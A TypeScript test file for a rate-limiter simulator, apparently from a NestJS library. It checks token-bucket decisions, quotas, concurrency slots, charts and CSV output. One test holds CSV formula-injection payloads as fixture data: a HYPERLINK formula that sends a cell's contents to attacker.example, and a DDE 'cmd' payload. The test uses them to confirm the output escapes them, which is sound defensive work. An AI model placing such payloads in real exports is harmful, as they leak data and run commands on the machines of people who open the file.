/**
 * The simulator decides as the token bucket's definition says: its CSV for the worked example
 * (r = 10 tokens/s, b = 50, 60 requests/s for 10 s, one client) is checked decision for decision
 * against a reference written here from the definition alone, not from lib/. Then what several
 * policies, a cost, the summary and the charts make of a run.
 */
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { csvKey } from '../../../lib/simulator/csv-output.js';
import { simulate } from '../../../lib/simulator/simulate.js';
import {
  MAX_RATE_REQUESTS,
  parseSimulateArgs,
  SimulateArgumentError,
  type SimulateOptions,
} from '../../../lib/simulator/simulate-args.js';
import type { Summary } from '../../../lib/simulator/summary.js';
import { ReleaseQueue } from '../../../lib/simulator/release-queue.js';
import { evenlySpaced } from '../../../lib/simulator/traffic.js';

let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'rl-simulator-'));
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** Runs the simulator on `args` (after `simulate`); gives what it wrote on stdout and stderr. */
async function run(...args: string[]): Promise<{ stdout: string; stderr: string[] }> {
  const options = parseSimulateArgs(args) as SimulateOptions;
  let stdout = '';
  const stderr: string[] = [];
  await simulate(options, { stdout: (text) => (stdout += text), stderr: (line) => stderr.push(line) });
  return { stdout, stderr };
}

/** A CSV file's rows, header first. */
async function csvRows(file: string): Promise<string[][]> {
  return (await readFile(file, 'utf8'))
    .trim()
    .split('\n')
    .map((line) => line.split(','));
}

/**
 * The token bucket by its definition: `tokens = min(b, tokens + r * dt)` at each arrival, admit
 * when `tokens >= 1` and take one. Counted in thousandths of a token, so that with whole `r` and
 * whole-millisecond arrivals every step is exact integer arithmetic (r tokens/s is r thousandths
 * per ms). Gives the rows the CSV must hold: remaining is the whole tokens left, retry_after the
 * whole seconds (at least 1) until one token is there.
 */
function referenceTokenBucket(r: number, b: number, times: readonly number[]): string[][] {
  const ONE = 1000;
  let tokens = b * ONE;
  let last = times[0];
  return times.map((time) => {
    tokens = Math.min(b * ONE, tokens + r * (time - last));
    last = time;
    const allowed = tokens >= ONE;
    if (allowed) tokens -= ONE;
    const retryAfter = allowed ? 0 : Math.max(1, Math.ceil((ONE - tokens) / r / 1000));
    return [String(time), '-', String(allowed), String(Math.floor(tokens / ONE)), String(retryAfter)];
  });
}

describe('simulate: the worked example (token_bucket, r = 10, b = 50, 60 requests/s for 10 s)', () => {
  it('writes the CSV the definition gives, decision for decision', async () => {
    const csv = join(dir, 'worked.csv');
    await run(
      '--policy',
      '{"algorithm":"token_bucket","rps":10,"burst":50}',
      '--rate',
      '60',
      '--duration',
      '10s',
      '--csv',
      csv,
    );
    const [header, ...rows] = await csvRows(csv);
    expect(header).toEqual(['time_ms', 'key', 'allowed', 'remaining', 'retry_after']);
    // evenly spaced: request i at floor(i * 1000 / 60) ms
    const times = Array.from({ length: 600 }, (_, i) => Math.floor((i * 1000) / 60));
    const reference = referenceTokenBucket(10, 50, times);
    expect(rows).toHaveLength(600);
    rows.forEach((row, i) => expect({ i, row }).toEqual({ i, row: reference[i] }));
    // the check could fail: the bucket empties, then admits about r per second
    const admitted = reference.filter(([, , allowed]) => allowed === 'true').length;
    expect(admitted).toBe(149);
  });

  it('prints a table per second: the burst of 50 and what refills in the first second, then r per second', async () => {
    const { stdout } = await run('--policy', '{"rps":10,"burst":50}', '--rate', '60', '--duration', '10s');
    expect(stdout).toContain('600 requests: 60 requests/s, evenly spaced, for 10 s');
    expect(stdout).toMatch(/^ +0 +60 +59 +1$/m);
    expect(stdout).toMatch(/^ +1 +60 +10 +50$/m);
    expect(stdout).toContain('refused 451 of 600 (75.2 %)');
    // the chart and everything else fits in 80 columns
    expect(Math.max(...stdout.split('\n').map((line) => [...line].length))).toBeLessThanOrEqual(80);
  });
});

describe('simulate: several policies', () => {
  it('decides them all-or-nothing: a request refused by one takes nothing from the other', async () => {
    const csv = join(dir, 'two.csv');
    // 5 requests/s for 4 s: "slow" admits 1 per second, "burst" holds 10 and refills none in 4 s
    const { stdout } = await run(
      '--policy',
      '{"name":"slow","rps":1,"burst":1}',
      '--policy',
      '{"name":"burst","limit":10,"window":"1h"}',
      '--rate',
      '5',
      '--duration',
      '4s',
      '--csv',
      csv,
    );
    const [, ...rows] = await csvRows(csv);
    // only "slow" refuses, and "burst" is charged only for the 4 admitted: 10 - 4 = 6 left
    expect(rows.filter(([, , allowed]) => allowed === 'true').map(([time]) => time)).toEqual([
      '0',
      '1000',
      '2000',
      '3000',
    ]);
    expect(rows.at(-1)).toEqual(['3800', '-', 'false', '0', '1']);
    expect(stdout).toContain('all policies: 2 policies, all-or-nothing: slow, burst');
    expect(stdout).toContain('burst: token_bucket, rps 0.00277778, burst 10 (its own verdict)');
    expect(stdout).toMatch(/burst: [^\n]+\nrefused 0 of 20/);
    expect(stdout).toMatch(/slow: [^\n]+\nrefused 16 of 20/);
  });

  it('refuses a cost above burst without charge and with no retry_after', async () => {
    const trace = join(dir, 'costs.csv');
    const csv = join(dir, 'costs-out.csv');
    await writeFile(trace, 'time,key,cost\n0,a,3\n1,a,6\n2,a,3\n3,a\n');
    await run(
      '--policy',
      '{"rps":1,"burst":5,"cost":"header:x-weight","defaultCost":2}',
      '--trace',
      trace,
      '--csv',
      csv,
    );
    const [, ...rows] = await csvRows(csv);
    expect(rows).toEqual([
      ['0', 'a', 'true', '2', '0'],
      // 6 is more than burst: never admitted, so no retry_after, and nothing taken
      ['1', 'a', 'false', '2', ''],
      // 2.002 tokens: 3 do not fit; they will in 998 ms, 1 s
      ['2', 'a', 'false', '2', '1'],
      // no cost in the trace: the policy's defaultCost, 2
      ['3', 'a', 'true', '0', '0'],
    ]);
  });
});

describe('simulate: blocks, comparisons and long traffic', () => {
  it('keeps a block a refusal started, whatever refills meanwhile', async () => {
    const csv = join(dir, 'block.csv');
    // 2 per second, blocked for 10 s once refused: 5 requests/s for 4 s admit the first 2 only
    const { stdout } = await run(
      '--policy',
      '{"algorithm":"fixed_window","limit":2,"window":"1s","blockFor":"10s"}',
      '--rate',
      '5',
      '--duration',
      '4s',
      '--csv',
      csv,
    );
    const [, ...rows] = await csvRows(csv);
    expect(rows.filter(([, , allowed]) => allowed === 'true').map(([time]) => time)).toEqual(['0', '200']);
    // Retry-After counts down to the block's end, 10 s after the first refusal at 400 ms
    expect(rows[2]).toEqual(['400', '-', 'false', '0', '10']);
    expect(rows.at(-1)).toEqual(['3800', '-', 'false', '0', '7']);
    expect(stdout).toContain('default: fixed_window, limit 2 per 1 s, block 10 s');
  });

  it("starts the bucket full again when a block with then: 'reset' ends", async () => {
    const csv = join(dir, 'block-reset.csv');
    // 2 per 10 s, blocked for 1 s once refused: 5 requests/s for 3 s. As the refusals left it, the
    // log would refuse until 10 s; reset, each block's end admits 2 more
    const { stdout } = await run(
      '--policy',
      '{"algorithm":"sliding_window_log","limit":2,"window":"10s","blockFor":{"duration":"1s","then":"reset"}}',
      '--rate',
      '5',
      '--duration',
      '3s',
      '--csv',
      csv,
    );
    const [, ...rows] = await csvRows(csv);
    expect(rows.filter(([, , allowed]) => allowed === 'true').map(([time]) => time)).toEqual([
      '0',
      '200',
      '1400',
      '1600',
      '2800',
    ]);
    expect(stdout).toContain('default: sliding_window_log, limit 2 per 10 s, block 1 s, then reset');
  });

  it("starts a fixed window at a key's first request with anchor 'first-request'", async () => {
    const trace = join(dir, 'anchored.csv');
    await writeFile(trace, 'time,key\n500,a\n600,a\n700,a\n1100,a\n1400,a\n1600,a\n');
    const admitted = async (anchor: string) => {
      const csv = join(dir, `anchored-${anchor}.csv`);
      const policy = { algorithm: 'fixed_window', limit: 2, window: '1s', anchor };
      const { stdout } = await run('--policy', JSON.stringify(policy), '--trace', trace, '--csv', csv);
      const [, ...rows] = await csvRows(csv);
      return { stdout, times: rows.filter(([, , allowed]) => allowed === 'true').map(([time]) => time) };
    };
    // the clock's windows [0, 1 s) and [1 s, 2 s); anchored, [0.5 s, 1.5 s) and [1.6 s, 2.6 s)
    expect((await admitted('clock')).times).toEqual(['500', '600', '1100', '1400']);
    const anchored = await admitted('first-request');
    expect(anchored.times).toEqual(['500', '600', '1600']);
    expect(anchored.stdout).toContain('default: fixed_window, limit 2 per 1 s from the first request');
  });

  it('writes one CSV row per request and algorithm with --compare, the algorithm in its own column', async () => {
    const csv = join(dir, 'compare.csv');
    await run(
      '--compare',
      'fixed_window,gcra',
      '--limit',
      '1',
      '--window',
      '1s',
      '--rate',
      '2',
      '--duration',
      '1s',
      '--csv',
      csv,
    );
    expect(await csvRows(csv)).toEqual([
      ['time_ms', 'key', 'algorithm', 'allowed', 'remaining', 'retry_after'],
      ['0', '-', 'fixed_window', 'true', '0', '0'],
      ['0', '-', 'gcra', 'true', '0', '0'],
      ['500', '-', 'fixed_window', 'false', '0', '1'],
      ['500', '-', 'gcra', 'false', '0', '1'],
    ]);
  });

  it('sums long traffic over spans of seconds, in a table of at most 30 rows and a chart within 80 columns', async () => {
    const { stdout } = await run('--compare', 'all', '--rps', '0.5', '--burst', '5', '--rate', '1', '--duration', '1h');
    expect(stdout).toContain('3,600 requests: 1 requests/s, evenly spaced, for 3600 s');
    // 3600 s in rows of 120 s: 30 rows, each 120 offered, half admitted once the burst is spent
    // (sliding_window_counter's estimate, weighing the previous window, admits 48)
    expect(stdout).toContain('from s (120 s each)');
    expect(stdout.match(/^ +3480 +120 +60 +60$/gm)).toHaveLength(5);
    expect(stdout).toMatch(/^ +3480 +120 +48 +72$/m);
    expect(stdout).not.toMatch(/^ +3600 /m);
    // 64 columns of 57 s, the last of 9 s drawn at its own rate; the axis ends at 3600 s
    expect(stdout).toMatch(/ 3600 s\n/);
    expect(stdout).toContain('(a column: 57 s)');
    expect(Math.max(...stdout.split('\n').map((line) => [...line].length))).toBeLessThanOrEqual(80);
  });
});

describe('simulate --compare and --json', () => {
  it('runs each algorithm on buckets of its own and summarises the share refused overall and per key', async () => {
    const trace = join(dir, 'keys.ndjson');
    const lines = [
      ...Array.from({ length: 8 }, (_, i) => JSON.stringify({ time: i * 10, key: 'hot' })),
      JSON.stringify({ time: 100, key: 'cold' }),
      JSON.stringify({ time: 110, key: '__proto__' }),
    ];
    await writeFile(trace, `${lines.join('\n')}\n`);
    const { stdout } = await run(
      '--compare',
      'token_bucket,fixed_window',
      '--limit',
      '5',
      '--window',
      '1m',
      '--trace',
      trace,
      '--json',
      '--top',
      '1',
    );
    const summary = JSON.parse(stdout) as Summary;
    expect(summary.requests).toBe(10);
    expect(summary.traffic).toMatchObject({ trace, format: 'ndjson', lines: 10, badLines: 0 });
    expect(summary.lanes.map((lane) => [lane.title, lane.refused, lane.refusedShare])).toEqual([
      ['token_bucket', 3, 0.3],
      ['fixed_window', 3, 0.3],
    ]);
    expect(summary.lanes[0].perKey).toEqual({
      hot: { offered: 8, refused: 3, refusedShare: 3 / 8 },
      cold: { offered: 1, refused: 0, refusedShare: 0 },
      ['__proto__']: { offered: 1, refused: 0, refusedShare: 0 },
    });
    expect(summary.lanes[0].topRefused).toEqual([{ key: 'hot', offered: 8, refused: 3, refusedShare: 3 / 8 }]);
  });

  it('writes an SVG with a panel per algorithm, axes with units and a legend, the same bytes every run', async () => {
    const svg = join(dir, 'compare.svg');
    const args = [
      '--compare',
      'all',
      '--rps',
      '10',
      '--burst',
      '50',
      '--rate',
      '60',
      '--duration',
      '10s',
      '--svg',
      svg,
    ];
    await run(...args);
    const first = await readFile(svg, 'utf8');
    await run(...args);
    expect(await readFile(svg, 'utf8')).toBe(first);
    expect(first).toMatch(/^<svg xmlns="http:\/\/www.w3.org\/2000\/svg"[^>]*>[\s\S]*<\/svg>\n$/);
    for (const algorithm of [
      'token_bucket',
      'leaky_bucket',
      'fixed_window',
      'sliding_window_log',
      'sliding_window_counter',
      'gcra',
    ]) {
      expect(first).toContain(`<tspan font-weight="600">${algorithm}</tspan>`);
    }
    expect(first.match(/>time \(s\)</g)).toHaveLength(6);
    expect(first.match(/>requests\/s</g)).toHaveLength(6);
    expect(first).toContain('>admitted</text>');
    expect(first).toContain('>refused</text>');
  });
});

describe('simulate --rate: a run that ends', () => {
  const policy = ['--policy', '{"rps":10,"burst":50}'];

  it('refuses a --rate and --duration that make more than 10,000,000 requests before deciding any, naming the flags', () => {
    expect(() => parseSimulateArgs([...policy, '--rate', '1e308', '--duration', '1s'])).toThrow(
      new SimulateArgumentError(
        'Invalid nestjs-ratelimit simulate argument --rate: times --duration 1s makes over 1e308 requests; a run simulates at most 10,000,000: lower --rate or --duration, got "1e308"',
      ),
    );
    expect(() => parseSimulateArgs([...policy, '--rate', '200', '--duration', '1d'])).toThrow(
      'Invalid nestjs-ratelimit simulate argument --rate: times --duration 1d makes 17,280,000 requests; a run simulates at most 10,000,000: lower --rate or --duration, got "200"',
    );
    expect(() => parseSimulateArgs([...policy, '--rate', '1e14', '--duration', '1d'])).toThrow(
      'times --duration 1d makes 8.64e+18 requests',
    );
    // the default --duration counts too
    expect(() => parseSimulateArgs([...policy, '--rate', '1000001'])).toThrow(
      /times --duration 10s makes 10,000,010 requests/,
    );
    expect(parseSimulateArgs([...policy, '--rate', '1000', '--duration', '10000s'])).toMatchObject({
      traffic: { rate: 1000, durationMs: 10_000_000 },
    });
    expect(MAX_RATE_REQUESTS).toBe(10_000_000);
  });

  it('refuses a --duration over a day: counts are kept per second, and evenly spaced traffic only repeats itself', () => {
    expect(() => parseSimulateArgs([...policy, '--rate', '0.001', '--duration', '2d'])).toThrow(
      new SimulateArgumentError(
        'Invalid nestjs-ratelimit simulate argument --duration: must be at most 1d (86400 s); replay a --trace for longer traffic, got "2d"',
      ),
    );
    expect(parseSimulateArgs([...policy, '--rate', '1', '--duration', '1d'])).toMatchObject({
      traffic: { rate: 1, durationMs: 86_400_000 },
    });
  });

  it('says on stderr how far a long run is, every second or so of its clock', () => {
    // a clock that moves 600 ms each time it is read: read every 16,384 requests, a line every other read
    let now = 0;
    const lines: string[] = [];
    const arrivals = [
      ...evenlySpaced(
        1000,
        100_000,
        (line) => lines.push(line),
        () => (now += 600),
      ),
    ];
    expect(arrivals).toHaveLength(100_000);
    expect(lines).toEqual([
      'simulate: 32,768 of 100,000 requests (32 %), 27,307 requests/s',
      'simulate: 65,536 of 100,000 requests (65 %), 27,307 requests/s',
      'simulate: 98,304 of 100,000 requests (98 %), 27,307 requests/s',
    ]);
  });
});

describe('simulate --csv: keys a spreadsheet would run as formulas', () => {
  it("writes a key that starts with =, +, -, @, a tab or a carriage return as quoted text after a ' (OWASP), and '-' alone as it is", () => {
    expect(
      ['=1+2', '+1', '-1+2', '@SUM(A1)', '\tx', '\rx', '=a,"b"', '-', 'a,b', 'say "hi"', "'quoted", 'alice'].map(
        csvKey,
      ),
    ).toEqual([
      `"'=1+2"`,
      `"'+1"`,
      `"'-1+2"`,
      `"'@SUM(A1)"`,
      `"'\tx"`,
      `"'\rx"`,
      `"'=a,""b"""`,
      '-',
      '"a,b"',
      '"say ""hi"""',
      "'quoted",
      'alice',
    ]);
  });

  it('keeps a formula in a trace key from reaching the file as one', async () => {
    const trace = join(dir, 'formulas.ndjson');
    const csv = join(dir, 'formulas-out.csv');
    const keys = [
      '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)*cmd',
      '\t=1',
      '\r=1',
      '',
      'bob',
    ];
    await writeFile(trace, keys.map((key, i) => JSON.stringify({ time: i, key })).join('\n'));
    await run('--policy', '{"rps":1,"burst":100}', '--trace', trace, '--csv', csv);
    expect(await readFile(csv, 'utf8')).toBe(
      [
        'time_ms,key,allowed,remaining,retry_after',
        `0,"'=HYPERLINK(""http://attacker.example/?x=""&A1,""click"")",true,99,0`,
        `1,"'+cmd|' /C calc'!A0",true,99,0`,
        `2,"'-2+3",true,99,0`,
        `3,"'@SUM(1+1)*cmd",true,99,0`,
        `4,"'\t=1",true,99,0`,
        `5,"'\r=1",true,99,0`,
        // no key: the client '-', as the summary names it
        '6,-,true,99,0',
        '7,bob,true,99,0',
        '',
      ].join('\n'),
    );
  });
});

describe('simulate: traces over huge spans', () => {
  /** The x axis's labels in the terminal chart: the line under the plot, ending in " s". */
  const axisLine = (stdout: string): string =>
    stdout
      .split('\n')
      .filter((line) => / s$/.test(line) && !line.includes('requests'))
      .pop()!;

  it('spaces the terminal x axis by its labels: none run together, whatever their digits', async () => {
    const trace = join(dir, 'span.csv');
    // the widest span a trace can have: times from -(2^53 - 1) to 2^53 - 1 ms
    await writeFile(trace, '-9007199254740991,a\n9007199254740991,a\n');
    const { stdout } = await run('--policy', '{"rps":10,"burst":5}', '--trace', trace);
    const axis = axisLine(stdout);
    expect(axis).toBe(`${' '.repeat(8)}0${' '.repeat(15)}4503599627376   9007199254752    18014398509482 s`);
    expect(Math.max(...stdout.split('\n').map((line) => [...line].length))).toBeLessThanOrEqual(80);

    await writeFile(trace, '0,a\n9007199254740991,a\n');
    const labels = axisLine((await run('--policy', '{"rps":10,"burst":5}', '--trace', trace)).stdout);
    expect(labels).toMatch(/^ {8}0( {2,}\d+)+ {2,}9007199254741 s$/);
  });

  it('spaces the SVG x axis by its labels, each inside the picture', async () => {
    const trace = join(dir, 'span-svg.csv');
    const svg = join(dir, 'span.svg');
    await writeFile(trace, '-9007199254740991,a\n9007199254740991,a\n');
    await run('--policy', '{"rps":10,"burst":5}', '--trace', trace, '--svg', svg);
    // the x labels: centred numbers under the plot; a digit at 12 px is at most 0.6 em, 7.2 px, wide
    const labels = [
      ...(await readFile(svg, 'utf8')).matchAll(
        /<text x="([\d.]+)" y="\d+" text-anchor="middle" fill="#424242">(\d+)<\/text>/g,
      ),
    ].map(([, x, text]) => ({
      x: Number(x),
      width: text.length * 7.2,
    }));
    expect(labels.length).toBeGreaterThanOrEqual(3);
    for (let i = 1; i < labels.length; i++) {
      const [left, right] = [labels[i - 1], labels[i]];
      expect(right.x - right.width / 2 - (left.x + left.width / 2)).toBeGreaterThanOrEqual(6);
    }
    expect(labels.at(-1)!.x + labels.at(-1)!.width / 2).toBeLessThanOrEqual(800);
  });

  it('reports a time past 2^53 - 1 ms as a bad line instead of failing to draw the span', async () => {
    const trace = join(dir, 'past.csv');
    await writeFile(trace, `0,a\n1${'0'.repeat(300)},a\n-9007199254740992,a\n`);
    const { stdout } = await run('--policy', '{"rps":10,"burst":5}', '--trace', trace);
    expect(stdout).toContain('1 request replayed');
    expect(stdout).toContain(
      'line 2: time is beyond ±9007199254740991 ms, where milliseconds are no longer exact: "1000000000',
    );
    expect(stdout).toContain(
      'line 3: time is beyond ±9007199254740991 ms, where milliseconds are no longer exact: "-9007199254740992"',
    );
  });
});

describe('simulate: concurrency and quotas', () => {
  /** The rows of a `--csv` run, without the header: [time_ms, key, allowed, remaining, retry_after] (with --compare, the algorithm after key). */
  async function decided(name: string, trace: string, ...args: string[]) {
    const csv = join(dir, `${name}-out.csv`);
    const { stdout } = await run(...args, '--trace', trace, '--csv', csv);
    const [, ...rows] = await csvRows(csv);
    return { stdout, rows };
  }

  it('gives a slot back --hold after its request was admitted: never more than limit in flight', async () => {
    const trace = join(dir, 'in-flight.csv');
    // limit 2, each request held 1 s: requests at 0 and 100 hold both slots until 1000 and 1100
    await writeFile(trace, 'time,key\n0,a\n100,a\n200,a\n999,a\n1000,a\n1050,a\n1100,a\n1100,b\n');
    const { stdout, rows } = await decided(
      'in-flight',
      trace,
      '--policy',
      '{"algorithm":"concurrency","limit":2,"lease":"5m"}',
      '--hold',
      '1s',
    );
    expect(rows).toEqual([
      ['0', 'a', 'true', '1', '0'],
      ['100', 'a', 'true', '0', '0'],
      // both slots held: refused, retry in 1 s (a slot comes back when a request ends)
      ['200', 'a', 'false', '0', '1'],
      ['999', 'a', 'false', '0', '1'],
      // the request of 0 ended at 1000: its slot is free again, and taken
      ['1000', 'a', 'true', '0', '0'],
      ['1050', 'a', 'false', '0', '1'],
      ['1100', 'a', 'true', '0', '0'],
      // another key has slots of its own
      ['1100', 'b', 'true', '1', '0'],
    ]);
    expect(stdout).toContain('each holding its slot 1 s');
    expect(stdout).toContain('default: concurrency, limit 2 in flight, lease 300 s');
  });

  it('reclaims a slot when its lease ends, before its request gives it back', async () => {
    const trace = join(dir, 'lease.csv');
    await writeFile(trace, 'time,key\n0,a\n500,a\n1000,a\n1500,a\n2000,a\n');
    // held 5 s, leased 1 s: each slot comes back after 1 s; the late release of 0 frees nothing more
    const { rows } = await decided(
      'lease',
      trace,
      '--policy',
      '{"algorithm":"concurrency","limit":1,"lease":"1s"}',
      '--hold',
      '5s',
    );
    expect(rows.map(([time, , allowed]) => [time, allowed])).toEqual([
      ['0', 'true'],
      ['500', 'false'],
      ['1000', 'true'],
      ['1500', 'false'],
      ['2000', 'true'],
    ]);
  });

  it('releases only the concurrency policy of a lane: the rate beside it stays charged', async () => {
    const trace = join(dir, 'beside.csv');
    await writeFile(trace, 'time,key\n0,a\n2000,a\n4000,a\n6000,a\n');
    const csv = join(dir, 'beside-out.csv');
    await run(
      '--policy',
      '{"name":"slots","algorithm":"concurrency","limit":1,"lease":"1m"}',
      '--policy',
      '{"name":"hourly","limit":3,"window":"1h"}',
      '--hold',
      '1s',
      '--trace',
      trace,
      '--csv',
      csv,
    );
    const [, ...rows] = await csvRows(csv);
    // every slot was given back after 1 s; the hourly count keeps its 3
    expect(rows.map(([time, , allowed]) => [time, allowed])).toEqual([
      ['0', 'true'],
      ['2000', 'true'],
      ['4000', 'true'],
      ['6000', 'false'],
    ]);
  });

  it("counts a quota in its time zone's calendar days: Berlin's day ends at 23:00 UTC in winter", async () => {
    const trace = join(dir, 'days.csv');
    // 2026-01-14 23:30, 23:40, 23:50 in Berlin (UTC+1), then 00:10 on the 15th
    await writeFile(
      trace,
      'time,key\n2026-01-14T22:30:00Z,a\n2026-01-14T22:40:00Z,a\n2026-01-14T22:50:00Z,a\n2026-01-14T23:10:00Z,a\n',
    );
    const t = (iso: string) => String(Date.parse(iso));
    const berlin = await decided(
      'days-berlin',
      trace,
      '--policy',
      '{"algorithm":"quota","limit":2,"period":"day","timeZone":"Europe/Berlin"}',
    );
    expect(berlin.rows).toEqual([
      [t('2026-01-14T22:30:00Z'), 'a', 'true', '1', '0'],
      [t('2026-01-14T22:40:00Z'), 'a', 'true', '0', '0'],
      // refused until the Berlin day ends, at 23:00 UTC: 600 s
      [t('2026-01-14T22:50:00Z'), 'a', 'false', '0', '600'],
      // a new day, a new count
      [t('2026-01-14T23:10:00Z'), 'a', 'true', '1', '0'],
    ]);
    expect(berlin.stdout).toContain('default: quota, limit 2 per day (Europe/Berlin)');
    const utc = await decided('days-utc', trace, '--compare', 'quota', '--limit', '2', '--period', 'day');
    // in UTC the day still runs: the fourth request is refused until midnight, 50 min later
    expect(utc.rows.map((row) => [row[2], row[4], row[5]])).toEqual([
      ['quota', '1', '0'],
      ['quota', '0', '0'],
      ['quota', '0', '4200'],
      ['quota', '0', '3000'],
    ]);
  });

  it('counts a month quota across a month end, each month its own length', async () => {
    const trace = join(dir, 'months.csv');
    await writeFile(
      trace,
      'time,key\n2026-02-27T12:00:00Z,a\n2026-02-28T23:59:59Z,a\n2026-03-01T00:00:00Z,a\n2026-03-31T00:00:00Z,a\n',
    );
    const csv = join(dir, 'months-out.csv');
    const { stdout } = await run(
      '--compare',
      'quota',
      '--limit',
      '1',
      '--period',
      'month',
      '--trace',
      trace,
      '--csv',
      csv,
      '--json',
    );
    const [, ...rows] = await csvRows(csv);
    expect(rows.map((row) => [row[3], row[5]])).toEqual([
      ['true', '0'],
      // February ends 1 s later
      ['false', '1'],
      ['true', '0'],
      // March has 31 days: refused until April 1st, one day later
      ['false', '86400'],
    ]);
    const summary = JSON.parse(stdout) as Summary;
    expect(summary.lanes[0].policies[0]).toMatchObject({ algorithm: 'quota', period: 'month', timeZone: 'UTC' });
  });

  it('leaves concurrency and quota out of --compare all: their limits are not a rate the lanes could share', () => {
    const options = parseSimulateArgs([
      '--compare',
      'all',
      '--rps',
      '10',
      '--burst',
      '50',
      '--rate',
      '1',
    ]) as SimulateOptions;
    expect(options.lanes.map((lane) => lane.title)).toEqual([
      'token_bucket',
      'leaky_bucket',
      'fixed_window',
      'sliding_window_log',
      'sliding_window_counter',
      'gcra',
    ]);
  });

  it('refuses --hold without a concurrency policy, a concurrency policy without --hold, and a bad --hold, naming it', () => {
    const slots = ['--policy', '{"algorithm":"concurrency","limit":2,"lease":"5m"}', '--rate', '1'];
    expect(() => parseSimulateArgs(slots)).toThrow(SimulateArgumentError);
    expect(() => parseSimulateArgs(slots)).toThrow(/--hold: is needed with a "concurrency" policy/);
    expect(() => parseSimulateArgs(['--policy', '{"rps":1}', '--rate', '1', '--hold', '1s'])).toThrow(
      /--hold: goes with a "concurrency" policy/,
    );
    for (const hold of ['0', '0.1ms', 'soon', '2d'])
      expect(() => parseSimulateArgs([...slots, '--hold', hold])).toThrow(/--hold: must be/);
    expect((parseSimulateArgs([...slots, '--hold', '250ms']) as SimulateOptions).traffic).toEqual({
      rate: 1,
      durationMs: 10_000,
      holdMs: 250,
    });
  });

  it('validates --compare quota and concurrency flags as policy fields, with the same messages', () => {
    expect(() =>
      parseSimulateArgs(['--compare', 'quota', '--limit', '5', '--period', 'fortnight', '--rate', '1']),
    ).toThrow(/"period"/);
    expect(() =>
      parseSimulateArgs([
        '--compare',
        'quota',
        '--limit',
        '5',
        '--period',
        'day',
        '--time-zone',
        'Mars/Base',
        '--rate',
        '1',
      ]),
    ).toThrow(/"timeZone"/);
    expect(() =>
      parseSimulateArgs(['--compare', 'concurrency', '--limit', '5', '--rate', '1', '--hold', '1s']),
    ).toThrow(/"lease"/);
    expect(() =>
      parseSimulateArgs(['--compare', 'token_bucket', '--rps', '5', '--lease', '1m', '--rate', '1']),
    ).toThrow(/lease/);
    expect(() => parseSimulateArgs(['--policy', '{"rps":1}', '--period', 'day', '--rate', '1'])).toThrow(
      /--period: goes with --compare/,
    );
  });
});

describe('ReleaseQueue: the slots held, soonest to end first', () => {
  it('gives back what ended by a time, in the order they end (ties: as pushed), whatever order they came in', () => {
    const queue = new ReleaseQueue<string>();
    const ends = [5000, 1000, 3000, 1000, 2000, 4000];
    ends.forEach((at, i) => queue.push({ at, owner: `r${i}`, policy: 0, cost: 1, chargedAt: at - 1000, actual: 0 }));
    const until = (time: number) => {
      const owners: string[] = [];
      for (let r = queue.popUntil(time); r !== undefined; r = queue.popUntil(time)) owners.push(r.owner);
      return owners;
    };
    expect(until(999)).toEqual([]);
    expect(until(2000)).toEqual(['r1', 'r3', 'r4']);
    expect(until(4500)).toEqual(['r2', 'r5']);
    expect(queue.size).toBe(1);
    expect(until(Infinity)).toEqual(['r0']);
  });
});
